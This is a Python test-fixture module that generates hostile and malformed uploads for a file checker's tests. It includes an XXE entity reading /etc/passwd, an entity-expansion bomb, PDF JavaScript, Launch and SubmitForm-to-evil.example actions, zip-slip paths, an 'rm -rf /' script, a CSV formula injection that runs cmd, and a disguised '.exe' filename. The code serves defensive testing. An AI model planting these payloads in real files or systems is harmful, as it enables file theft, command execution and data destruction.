"""Files nobody should have to open, made by code: name → (bytes, what the file is called).

`BAD` must never be opened; `ODD` may be found clean, but must cost little. Nothing here is heavy to
make: the largest are 25 MB of a repeated word.
"""

from __future__ import annotations

import struct
import zipfile
import zlib
from io import BytesIO

from companies.files.checker import EICAR, MAX_BYTES
from tests.given import PAPER

File = tuple[bytes, str]
DTD = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
LAUGHS = b"<!DOCTYPE x [" + b"".join(
    b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10)
) + b"]><x>&l9;</x>"  # fmt: skip


def pdf(inner: bytes) -> bytes:
    """A PDF with something inside."""
    return PAPER.replace(b"endobj", inner + b" endobj", 1)


def packed(inner: bytes) -> bytes:
    """The same inside an object stream, where dictionaries are compressed."""
    body = zlib.compress(inner, 9)
    head = b"\n5 0 obj<</Type/ObjStm/Filter/FlateDecode/N 1/First 4/Length %d>>stream\n" % len(body)
    return PAPER.replace(b"trailer", head + body + b"\nendstream endobj\ntrailer")


def office(members: dict[str, bytes], main: str = "xl/workbook.xml") -> bytes:
    """A workbook or document with these members."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in {main: b"<main/>", **members}.items():
            archive.writestr(name, data)
    return out.getvalue()


def link() -> bytes:
    """A workbook with a symbolic link."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("xl/workbook.xml", b"<main/>")
        entry = zipfile.ZipInfo("xl/media/image1.png")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return out.getvalue()


def twice() -> bytes:
    """A workbook with two members of one name: which is meant depends on who reads."""
    good = office({"xl/styles.xml": b"<a/>", "xl/stylez.xml": b"<b/>"})
    return good.replace(b"xl/stylez.xml", b"xl/styles.xml")


def catalogue(entries: int) -> bytes:
    """A zip whose central directory alone holds this many empty members."""
    one = b"PK\x01\x02" + bytes(24) + struct.pack("<H", 1) + bytes(16) + b"a"
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 0, 0, len(one) * entries, 4, 0)
    return b"PK\x03\x04" + one * entries + end


def patched(data: bytes, *changes: tuple[bytes, int, bytes]) -> bytes:
    """The bytes with some overwritten, at an offset from the last place of a mark."""
    raw = bytearray(data)
    for mark, offset, new in changes:
        place = data.rindex(mark) + offset
        raw[place : place + len(new)] = new
    return bytes(raw)


def png(width: int, height: int, body: bytes = b"") -> bytes:
    """A PNG that claims this size."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunks = [(b"IHDR", head), (b"IDAT", body or zlib.compress(bytes(64))), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        for name, data in chunks
    )


def jpeg(width: int, height: int) -> bytes:
    """A JPEG that claims this size."""
    frame = struct.pack(">BHHB", 8, height, width, 3) + bytes(9)
    return b"\xff\xd8\xff\xe0\x00\x04JF\xff\xc0" + struct.pack(">H", len(frame) + 2) + frame + (
        b"\xff\xda\x00\x02" + bytes(16) + b"\xff\xd9"
    )  # fmt: skip


def full_of(unit: bytes, size: int = MAX_BYTES) -> bytes:
    """A PDF as large as may be, of one repeated word."""
    head, tail = b"%PDF-1.4\n", b"\n%%EOF"
    return head + unit * ((size - len(head) - len(tail)) // len(unit)) + tail


def _pdfs() -> dict[str, bytes]:
    acts = {
        "script": b"<</S/JavaScript/JS(app.alert(1))>>",
        "script spelt": b"<</S/J#61vaScript/JS(x)>>",
        "script spelt whole": b"<</S/#4a#61#76#61#53#63#72#69#70#74>>",
        "launch": b"<</S/Launch/F(cmd.exe)>>",
        "attachment": b"<</Names<</EmbeddedFiles 7 0 R>>>>",
        "attached file": b"<</Type/Filespec/EF<</F 8 0 R>>>><</Type/EmbeddedFile>>",
        "rich media": b"<</Subtype/RichMedia>>",
        "form sent": b"<</S/SubmitForm/F(http://evil.example)>>",
        "data read": b"<</S/ImportData/F(x)>>",
        "XFA": b"<</AcroForm<</XFA 9 0 R>>>>",
    }
    found = {f"pdf {name}": pdf(inner) for name, inner in acts.items()}
    found |= {f"pdf packed {name}": packed(b"6 0 " + inner) for name, inner in acts.items()}
    found |= {
        "pdf late in a pack": packed(b"0" * 200_000 + acts["script"]),
        "pdf across pieces of a pack": packed(b"0" * 65_531 + acts["script"]),
        "pdf pack spelt": packed(b"x").replace(b"/ObjStm", b"/Obj#53tm"),
        "pdf pack of nulls": packed(bytes(80_000_000)),
        "pdf many packs": full_of(b"/ObjStm stream\n", 2_000_000),
        "pdf encrypted": pdf(b"<</Encrypt 9 0 R>>"),
        "pdf encrypted spelt": pdf(b"<</#45ncrypt 9 0 R>>"),
        "pdf cut off": PAPER[:-8],
        "pdf head only": b"%PDF-1.7\n",
        "pdf EICAR": pdf(EICAR),
        "pdf behind a line": b"\n" + pdf(acts["script"]),
        "pdf behind words": b"see: " + pdf(acts["script"]),
        "pdf is a zip": PAPER.replace(b"%%EOF", b"") + office({}),
    }
    return found


def _archives() -> dict[str, bytes]:
    parts = {
        "zip slip": {"../../etc/passwd": b"x"},
        "zip slip, windows": {"..\\..\\win.ini": b"x"},
        "zip absolute": {"/etc/passwd": b"x"},
        "zip drive": {"C:/windows/x.dll": b"x"},
        "zip stream": {"xl/a.xml:evil": b"x"},
        "zip empty name part": {"xl//a.xml": b"x"},
        "macros": {"xl/vbaProject.bin": b"x"},
        "macros in capitals": {"XL/VBAPROJECT.BIN": b"x"},
        "macro sheet": {"xl/macros/sheet1.xml": b"x"},
        "active x": {"xl/activeX/activeX1.bin": b"x"},
        "object": {"xl/embeddings/oleObject1.bin": b"x"},
        "external entity": {"xl/sharedStrings.xml": DTD},
        "external entity in relations": {"_rels/.rels": DTD},
        "entity in UTF-16": {"xl/styles.xml": DTD.decode().encode("utf-16")},
        "laughs": {"xl/sharedStrings.xml": LAUGHS},
        "shared strings of a gigabyte": {"xl/sharedStrings.xml": bytes(60_000_000)},
        "many parts": {f"xl/p{n}.xml": b"" for n in range(10_000)},
        "long name": {"x" * 60_000 + "/../a": b"x"},
    }
    plain = office({"xl/styles.xml": b"<a/>"})
    found = {f"xlsx {name}": office(members) for name, members in parts.items()}
    found |= {
        f"docx {name}": office(parts[name], "word/document.xml")
        for name in ("zip slip", "macros", "external entity", "laughs", "object")
    }
    found |= {
        "xlsx link": link(),
        "xlsx one name twice": twice(),
        "xlsx encrypted": patched(plain, (b"PK\x01\x02", 8, b"\x01")),
        "xlsx from the future": patched(plain, (b"PK\x01\x02", 6, b"\xff")),
        "xlsx unknown packing": patched(plain, (b"PK\x01\x02", 10, b"\x63")),
        "xlsx claims gigabytes": patched(plain, (b"PK\x01\x02", 24, b"\xff\xff\xff\x7f")),
        "xlsx claims little": patched(
            office({"xl/styles.xml": bytes(1_000_000)}), (b"PK\x01\x02", 24, b"\x01\0\0\0")
        ).replace(b"<main/>", b"<main>!"),
        "xlsx directory elsewhere": patched(plain, (b"PK\x05\x06", 16, b"\xff\xff\xff\x7f")),
        "xlsx EICAR stored": _stored(EICAR),
        "zip half a million entries": catalogue(500_000),
        "zip 3,000 entries": catalogue(3_000),
        "zip of nothing": b"PK\x05\x06" + bytes(18),
        "zip head only": b"PK\x03\x04",
        "zip head and noise": b"PK\x03\x04" + bytes(range(256)) * 40,
        "archive": office({}, "a.txt"),
        "jar": office({"META-INF/MANIFEST.MF": b"Main-Class: X"}, "X.class"),
        "nested zip": office({"inner.zip": office({})}, "b.txt"),
    }
    for cut in (10, 40, 80, 120):
        found[f"xlsx cut at {cut}"] = plain[:-cut]
    return found


def _stored(data: bytes) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("xl/workbook.xml", data)
    return out.getvalue()


def _others() -> dict[str, bytes]:
    page = b"<!doctype html><script>alert(1)</script>"
    return {
        "EICAR": EICAR,
        "EICAR and blanks": EICAR + b" " * 50,
        "EICAR later": b"a,b\n" + EICAR,
        "page": page,
        "page behind blanks": b" \r\n\t" + page,
        "page behind a mark": b"\xef\xbb\xbf" + page,
        "drawing with script": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "drawing behind a head": b"<?xml version='1.0'?><svg><script>1</script></svg>",
        "program": b"MZ" + bytes(64),
        "elf": b"\x7fELF" + bytes(64),
        "shell": b"#!/bin/sh\nrm -rf /\n",
        "class": b"\xca\xfe\xba\xbe" + bytes(20),
        "shortcut": b"L\0\0\0\x01\x14\x02\0" + bytes(60),
        "internet shortcut": b"[InternetShortcut]\nURL=file://evil.example/x\n",
        "rtf": b"{\\rtf1{\\object\\objdata 0105}}",
        "postscript": b"%!PS-Adobe\n(x) run\n",
        "old office": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        "rar": b"Rar!\x1a\x07\x00" + bytes(50),
        "7z": b"7z\xbc\xaf\x27\x1c" + bytes(50),
        "gzip": zlib.compress(b"x", wbits=31),
        "cab": b"MSCF" + bytes(60),
        "nul": b"\0",
        "nuls": bytes(5000),
        "text with a nul": b"a,b\n1,\x002\n",
        "controls": b"a,b\n\x1b[2J\x07\n",
        "half a character": b"a,\xff\xb1",
        "png of 50,000²": png(50_000, 50_000),
        "png of 2³¹": png(2**31 - 1, 2**31 - 1),
        "png of nothing": png(0, 5),
        "png head only": b"\x89PNG\r\n\x1a\n",
        "png cut in its head": png(5, 5)[:20],
        "jpeg of 65,535²": jpeg(65_535, 65_535),
        "jpeg of nothing": jpeg(0, 0),
        "jpeg head only": b"\xff\xd8\xff",
        "jpeg of ff": b"\xff\xd8" + b"\xff" * 9000,
        "jpeg without frame": b"\xff\xd8\xff\xe0" + b"\0\x02\xff\xe0" * 9000,
        "gif": b"GIF89a" + bytes(30),
        "bmp": b"BM" + bytes(60),
        "tiff": b"II*\0" + bytes(60),
        "webp": b"RIFF\x10\0\0\0WEBPVP8 " + bytes(9),
        "noise": bytes(range(256)) * 999,
    }


def _odd() -> dict[str, File]:
    sizes = {
        f"large pdf of {unit!r}": (full_of(unit, MAX_BYTES - 2000), "a.pdf")
        for unit in (b"/", b"#4a", b"/JavaScriptx ")
    }
    texts = {
        "table": "日期,金额\n2025-03-03,1\n".encode("gb18030"),
        "long line": b"1," * 4_000_000,
        "large table": "算力券,𠮷\n".encode() * 1_000_000,
        "formula": b"=cmd|' /C calc'!A0,1\n",
    }
    names = (
        "../../../etc/passwd",
        "..\\..\\win.ini",
        "a\u202efdp.exe",
        "run.bat",
        "x.html",
        ".htaccess",
        "CON.pdf",
        "a;b=c.pdf",
        'a"b.pdf',
        "名" * 199,
        "%00.pdf",
        "a.pdf.",
        "☃.pdf",
        "-rf.pdf",
    )
    return {
        **sizes,
        **{f"text {name}": (data, "a.csv") for name, data in texts.items()},
        **{f"called {name[:20]}": (PAPER, name) for name in names},
        "png": (png(5, 5), "a.png"),
        "png is a page": (png(5, 5) + b"<script>alert(1)</script>", "a.html"),
        "jpeg": (jpeg(5, 5), "a.jpg"),
        "jpeg is a pdf": (jpeg(5, 5) + PAPER, "a.pdf"),
        "lies of its type": (PAPER, "a.svg"),
    }


# Not even kept: (bytes, name, status).
REFUSED: dict[str, tuple[bytes, str, int]] = {
    "empty": (b"", "a.pdf", 422),
    "one byte too many": (full_of(b"x", MAX_BYTES) + b"y" * 40, "a.pdf", 413),
    "no name": (PAPER, ".", 422),
    "long name": (PAPER, "x" * 250, 422),
}
BAD: dict[str, File] = {
    name: (data, "合同.pdf") for name, data in {**_pdfs(), **_archives(), **_others()}.items()
}
ODD: dict[str, File] = _odd()
